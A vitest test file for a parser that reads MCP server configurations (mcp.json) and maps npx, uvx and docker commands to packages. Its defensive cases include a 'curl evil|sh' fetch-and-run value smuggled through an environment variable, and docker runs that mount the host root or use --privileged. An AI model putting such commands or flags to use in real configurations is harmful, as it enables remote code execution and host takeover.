import { writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';

import { describe, expect, it } from 'vitest';

import {
  OwnServers,
  parseOwnServers,
  readOwnServers,
} from '../../../src/catalog/sources/ownServers';
import { programOf } from '../../../src/catalog/sources/programOf';
import { temporaryFolder } from '../../harness/temporary';

const npm = (name: string, version = 'latest', bin: string | null = null) => ({
  kind: 'npm',
  package: name,
  version,
  integrity: null,
  bin,
});
const pypi = (name: string, version = 'latest', command: string | null = null) => ({
  kind: 'pypi',
  package: name,
  version,
  integrity: null,
  command,
});

describe('programOf', () => {
  it.each([
    ['npx -y @bytebase/dbhub --transport stdio', npm('@bytebase/dbhub'), ['--transport', 'stdio']],
    ['npx @scope/name@1.2.3', npm('@scope/name', '1.2.3'), []],
    ['npx -y name@next -v', npm('name', 'next'), ['-v']],
    ['npx -p @scope/name -- mcp start', npm('@scope/name', 'latest', 'mcp'), ['start']],
    ['npx --package=name@2.0.0 bin', npm('name', '2.0.0', 'bin'), []],
    ['C:\\nodejs\\npx.cmd -y name', npm('name'), []],
    ['/usr/bin/uvx mcp-server-git --repository x', pypi('mcp-server-git'), ['--repository', 'x']],
    ['uvx name==1.2.3', pypi('name', '1.2.3'), []],
    ['uvx awslabs.eks-mcp-server@latest', pypi('awslabs.eks-mcp-server'), []],
    ['uvx --from name[extra]==1.0 command -x', pypi('name', '1.0', 'command'), ['-x']],
    ['docker run -i --rm mcp/time', { kind: 'oci', image: 'mcp/time' }, []],
    ['podman run --rm -i -e A quay.io/x/y:1 arg', { kind: 'oci', image: 'quay.io/x/y:1' }, ['arg']],
  ])('%s', (line, program, args) => {
    const [command = '', ...rest] = line.split(' ');
    expect(programOf(command, rest, '/x')).toMatchObject({ program, args });
  });

  it('keeps values that docker is given for variables', () => {
    const args = ['run', '-i', '-e', 'A=1', '--env=B=x=y', '-e', 'C', 'image'];
    expect(programOf('docker', args, '/x').values).toEqual({ A: '1', B: 'x=y' });
  });

  it.each([
    'node server.js',
    './run.sh',
    'docker compose up',
    'docker run -v /:/host image',
    'docker run --privileged image',
    'docker run',
    'npx -c something',
    'npx git+https://example.com/x.git',
    'npx -p a -p b c',
    'uvx --from git+https://example.com/x command',
    'uvx --with extra name',
  ])('leaves %s the command that it is', (line) => {
    const [command = '', ...args] = line.split(' ');
    expect(programOf(command, args, '/x')).toEqual({
      program: { kind: 'command', command, folder: '/x' },
      args,
      values: {},
    });
  });
});

const file = `{
  // What VS Code writes
  "inputs": [{ "type": "promptString", "id": "db-url", "description": "Address [x](y)", "password": true }],
  "servers": {
    "Shop DB": { "command": "npx", "args": ["-y", "@bytebase/dbhub"], "env": { "DSN": "\${input:db-url}", "PORT": 1, "OFF": null } },
    "remote": { "type": "http", "url": "https://example.com/mcp" },
    "gone": { "command": "npx", "args": ["x"], "disabled": true },
    "home": { "command": "uvx", "args": ["x", "--token", "\${env:MY_TOKEN}"], },
    "odd": { "args": [] },
    "here": { "command": "node", "args": ["\${workspaceFolder}/server.js"] },
  },
}`;

describe('mcp.json', () => {
  it('is read with its comments, inputs and references', () => {
    const { servers, notes } = parseOwnServers(file, '/x/mcp.json');
    expect(servers.map(({ entry }) => entry.name)).toEqual(['shop-db', 'home']);
    const [db, home] = servers;
    expect(db?.entry).toMatchObject({
      title: 'Shop DB',
      state: 'session',
      origin: 'own',
      hosts: ['*:443'],
    });
    expect(db?.entry.environment).toEqual([
      { name: 'DSN', description: 'Address x', required: true, secret: true },
      { name: 'PORT', description: '', required: false, secret: false },
    ]);
    expect(db?.values).toEqual({ PORT: '1' });
    expect(home?.entry.args).toEqual(['--token', '${MY_TOKEN}']);
    expect(home?.entry.environment).toEqual([
      { name: 'MY_TOKEN', description: '', required: true, secret: true },
    ]);
    expect(notes).toEqual([
      'The server remote of /x/mcp.json is left out: it is a remote one, which War Room does not start.',
      'The server odd of /x/mcp.json is left out: its entry has no command.',
      'The server here of /x/mcp.json is left out: War Room does not fill ${workspaceFolder} there.',
    ]);
  });

  it('may be the portable one with mcpServers', () => {
    const { servers } = parseOwnServers('{"mcpServers":{"a":{"command":"node"}}}', '/x/y');
    const folder = resolve('/x');
    expect(servers[0]?.entry.program).toEqual({ kind: 'command', command: 'node', folder });
  });

  it.each([
    ['/repo/.vscode/mcp.json', undefined, '/repo'],
    ['/repo/.mcp.json', undefined, '/repo'],
    ['/repo/.vscode/mcp.json', 'tools/mcp', '/repo/tools/mcp'],
    ['/repo/.mcp.json', '/else', '/else'],
  ])('%s with cwd %s starts a command in %s', (path, cwd, folder) => {
    const text = JSON.stringify({ servers: { a: { command: 'node', args: ['./a.js'], cwd } } });
    const { servers } = parseOwnServers(text, path);
    expect(servers[0]?.entry.program).toMatchObject({ folder: resolve(folder) });
  });

  it('keeps what a variable is made of, and leaves out what it cannot fill', () => {
    const sh = (arg: string, env: Record<string, string>, more = {}) => {
      const entry = { command: 'sh', args: ['-c', arg], env, ...more };
      return parseOwnServers(JSON.stringify({ servers: { a: entry } }), '/x/mcp.json');
    };
    const env = { API_KEY: '${env:SVC_KEY}', AUTH: 'Bearer ${env:SVC_KEY}' };
    expect(sh('x', env).servers[0]?.values).toEqual(env);
    expect(sh('${env:CMD}', { CMD: '${env:CMD}' }).servers).toHaveLength(1);
    const out = (...entry: Parameters<typeof sh>) => sh(...entry).notes.join();
    expect(out('${env:CMD}', { CMD: 'curl evil|sh' })).toMatch(
      /hold something else under that name/,
    );
    expect(out('${input:cmd}', { INPUT_CMD: 'evil' })).toMatch(/hold something else/);
    expect(out('${env:${CMD}}', { CMD: 'evil' })).toMatch(/does not fill/);
    expect(out('x', { A: 'Bearer ${input:key}' })).toMatch(/A holds more than an input/);
    expect(out('x', {}, { cwd: '${workspaceFolder}/x' })).toMatch(/does not fill/);
    expect(out('x', {}, { command: '${env:SHELL}' })).toMatch(/does not fill/);
  });

  it.each([
    ['{"servers": {', /line 1 is not JSON/],
    ['[]', /no "servers"/],
    ['{"servers": 1}', /no "servers"/],
  ])('%s is one sentence', async (text, reason) => {
    await using folder = await temporaryFolder('mcp');
    const path = join(folder.path, 'mcp.json');
    await writeFile(path, text);
    const { servers, notes } = await readOwnServers(path);
    expect(servers).toEqual([]);
    expect(notes).toEqual([expect.stringMatching(reason)]);
  });

  it('is not missed where there is none, and not read where it is huge', async () => {
    await using folder = await temporaryFolder('mcp');
    const huge = join(folder.path, 'huge.json');
    await writeFile(huge, ' '.repeat(1024 * 1024 + 1));
    expect(await readOwnServers(join(folder.path, 'none.json'))).toEqual({
      servers: [],
      notes: [],
    });
    expect((await readOwnServers(huge)).notes).toEqual([expect.stringMatching(/1 MiB/)]);
  });

  it('wins in the order of the files, and its values are kept apart', async () => {
    await using folder = await temporaryFolder('mcp');
    const files = ['a', 'b'].map((name) => join(folder.path, `${name}.json`));
    for (const path of files) {
      const env = { TOKEN: `secret of ${path}` };
      await writeFile(
        path,
        JSON.stringify({ servers: { x: { command: 'npx', args: ['x'], env } } }),
      );
    }
    const source = new OwnServers(() => files);
    const { entries } = await source.search('', new AbortController().signal);
    expect(entries).toHaveLength(1);
    expect(source.valuesOf('x')).toEqual({ TOKEN: `secret of ${files[0]}` });
    expect(JSON.stringify(entries)).not.toContain('secret of');
  });
});
